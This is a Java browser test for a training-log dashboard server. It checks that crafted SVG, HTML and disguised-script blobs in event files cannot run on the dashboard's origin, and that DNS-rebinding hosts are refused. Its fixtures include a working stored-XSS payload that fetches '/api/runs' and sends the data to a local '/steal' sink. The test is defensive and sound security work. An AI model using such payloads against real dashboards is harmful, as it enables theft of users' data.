package dev.trainscope.server;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.PlaywrightException;
import com.microsoft.playwright.Response;
import com.sun.net.httpserver.HttpServer;
import dev.trainscope.events.TfRecordFormat;
import dev.trainscope.events.proto.AudioProto;
import dev.trainscope.events.proto.Event;
import dev.trainscope.events.proto.ImageProto;
import dev.trainscope.events.proto.Summary;
import dev.trainscope.events.proto.SummaryValue;
import java.io.ByteArrayOutputStream;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.zip.CRC32C;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/**
 * The two ways a page from elsewhere could read the runs, tried in a real browser.
 *
 * <p>Active content from an event file: a crafted log directory holds an "image" and an "audio
 * clip" declared {@code image/svg+xml} that are an SVG document loading a script from a second
 * blob, an "audio clip" declared {@code audio/wav, text/javascript} whose bytes are that script,
 * and an HTML page. None may open as a document on the dashboard's origin (served under the
 * file's type, the SVG did), and nothing may reach the server that counts what is sent to it
 * (a browser that took the last type of the list as the script's would have sent it the runs).
 *
 * <p>DNS rebinding: a domain that resolves to 127.0.0.1 (Chromium maps {@code *.rebind.test}
 * there) is a different origin for the browser, but the same server; only its Host header shows
 * it. Its pages must get nothing, unless the user allowed the name.
 */
@ExtendWith(Chromium.Tests.class)
class HostileOriginBrowserTest {
  static final String RUN = "evil";

  @TempDir
  static Path logdir;
  static Served served;
  static Chromium chromium;
  static HttpServer sink;
  static final List<String> stolen = new CopyOnWriteArrayList<>();

  @BeforeAll
  static void start(Chromium browser) throws Exception {
    chromium = browser;
    sink = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
    sink.createContext("/", ex -> {
      stolen.add(ex.getRequestURI().toString());
      ex.sendResponseHeaders(204, -1);
      ex.close();
    });
    sink.start();
    String script = "fetch('/api/runs').then(r => r.text()).then(t => { location.href = 'http://127.0.0.1:"
        + sink.getAddress().getPort() + "/steal?' + encodeURIComponent(t); });";
    String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"" + script.replace("'", "&apos;").replace("\"", "&quot;")
        + "\"><script href=\"/api/blob?run=" + RUN + "&amp;tag=clip&amp;step=0&amp;index=0\"></script></svg>";
    String html = "<html><body><script src=\"/api/blob?run=" + RUN + "&amp;tag=clip&amp;step=0\"></script></body></html>";
    byte[] wav = wav();
    write(logdir.resolve(RUN).resolve("events.out.tfevents.1700000000.host.1.0"), List.of(
        new Event(1.7e9, 0, new Event.FileVersion("brain.Event:2"), null),
        value(0, SummaryValue.of("picture", null, new ImageProto(8, 8, 3, svg.getBytes(StandardCharsets.UTF_8)))),
        value(0, SummaryValue.of("drawing", null,
            new AudioProto(8000f, 1, 1, svg.getBytes(StandardCharsets.UTF_8), "image/svg+xml"))),
        value(0, SummaryValue.of("page", null, new ImageProto(8, 8, 3, html.getBytes(StandardCharsets.UTF_8)))),
        value(0, SummaryValue.of("clip", null,
            new AudioProto(8000f, 1, 1, script.getBytes(StandardCharsets.UTF_8), "audio/wav, text/javascript"))),
        value(0, SummaryValue.of("sound", null, new AudioProto(8000f, 1, 4, wav, "text/html")))));
    served = Served.loaded(logdir, List.of("trusted." + Chromium.REBIND_DOMAIN));
  }

  @AfterAll
  static void stop() {
    if (served != null) {
      served.close();
    }
    if (sink != null) {
      sink.stop(0);
    }
  }

  @Test
  void blobs_craftedAsDocumentsOrScripts_runNothing() throws Exception {
    try (DashboardPage p = chromium.open(served.base)) {
      for (String tag : List.of("picture", "drawing", "page", "clip")) {
        String url = served.base + "/api/blob?run=" + RUN + "&tag=" + tag + "&step=0&index=0";
        Page page = p.context.newPage();
        String shown;
        try {
          page.navigate(url);
          shown = (String) page.evaluate("() => document.contentType + ' ' + document.documentElement.outerHTML.slice(0, 80)");
        } catch (PlaywrightException e) {
          // an attachment is a download, not a page: what must happen to each of these
          assertTrue(e.getMessage().contains("Download is starting"), tag + ": " + e.getMessage());
          shown = null;
        }
        assertEquals(null, shown, tag + " was opened as a document on the dashboard's origin");
        page.waitForTimeout(500);
        page.close();
      }
      // and through the app's own page: an <img> and an <audio> of the crafted blobs
      p.open("");
      p.page.evaluate("base => { for (const t of ['picture', 'drawing', 'page']) { const i = new Image(); i.src = base + t; document.body.append(i); }"
          + " const a = new Audio(base + 'clip'); a.play().catch(() => {}); }",
          "/api/blob?run=" + RUN + "&step=0&index=0&tag=");
      p.page.waitForTimeout(1000);
    }
    assertEquals(List.of(), stolen, "the runs were sent to another origin");
  }

  @Test
  void realMedia_stillShownInline_asTheSniffedType() throws Exception {
    try (DashboardPage p = chromium.open(served.base)) {
      p.open("");
      Object ok = p.page.evaluate("url => new Promise(res => { const a = new Audio(url);"
          + " a.onloadedmetadata = () => res(a.duration > 0); a.onerror = () => res('error ' + (a.error && a.error.code)); })",
          "/api/blob?run=" + RUN + "&tag=sound&step=0&index=0");
      assertEquals(Boolean.TRUE, ok, "a real WAV whose file says text/html plays as audio");
    }
  }

  @Test
  void reboundDomain_getsNothing_butAnAllowedNameDoes() {
    int port = Integer.parseInt(served.base.substring(served.base.lastIndexOf(':') + 1));
    try (DashboardPage p = chromium.open(served.base)) {
      Response r = p.page.navigate("http://attacker." + Chromium.REBIND_DOMAIN + ":" + port + "/");
      assertEquals(403, r.status(), "the app's page itself");
      assertTrue(r.text().contains("--allowed_hosts"), r.text());
      Object api = p.page.evaluate("() => fetch('/api/runs').then(r => r.status)");
      assertEquals(403, ((Number) api).intValue(), "the API from the rebound origin");
      Object sse = p.page.evaluate("() => fetch('/api/events').then(r => r.status)");
      assertEquals(403, ((Number) sse).intValue(), "the live events from the rebound origin");

      Response allowed = p.page.navigate("http://trusted." + Chromium.REBIND_DOMAIN + ":" + port + "/");
      assertEquals(200, allowed.status(), "a name given with --allowed_hosts");
      Object runs = p.page.evaluate("() => fetch('/api/runs').then(r => r.json()).then(j => j.runs.map(r => r.name))");
      assertEquals(List.of(RUN), runs);

      Response local = p.page.navigate("http://localhost:" + port + "/");
      assertEquals(200, local.status(), "localhost");
    }
  }

  private static Event value(long step, SummaryValue v) {
    return new Event(1.7e9 + step, step, Summary.of(v), null);
  }

  /** A valid 4-frame 8-bit mono PCM WAV file. */
  private static byte[] wav() {
    byte[] b = new byte[48];
    java.nio.ByteBuffer w = java.nio.ByteBuffer.wrap(b).order(java.nio.ByteOrder.LITTLE_ENDIAN);
    w.put("RIFF".getBytes(StandardCharsets.US_ASCII)).putInt(40).put("WAVE".getBytes(StandardCharsets.US_ASCII));
    w.put("fmt ".getBytes(StandardCharsets.US_ASCII)).putInt(16).putShort((short) 1).putShort((short) 1)
        .putInt(8000).putInt(8000).putShort((short) 1).putShort((short) 8);
    w.put("data".getBytes(StandardCharsets.US_ASCII)).putInt(4).put(new byte[] {(byte) 128, (byte) 200, (byte) 128, 56});
    return java.util.Arrays.copyOf(b, w.position());
  }

  private static void write(Path file, List<Event> events) throws Exception {
    Files.createDirectories(file.getParent());
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CRC32C crc = new CRC32C();
    for (Event e : events) {
      byte[] data = e.toByteArray();
      byte[] framed = new byte[TfRecordFormat.framedLength(data.length)];
      TfRecordFormat.frame(crc, data, 0, data.length, framed, 0);
      out.write(framed);
    }
    Files.write(file, out.toByteArray());
  }
}
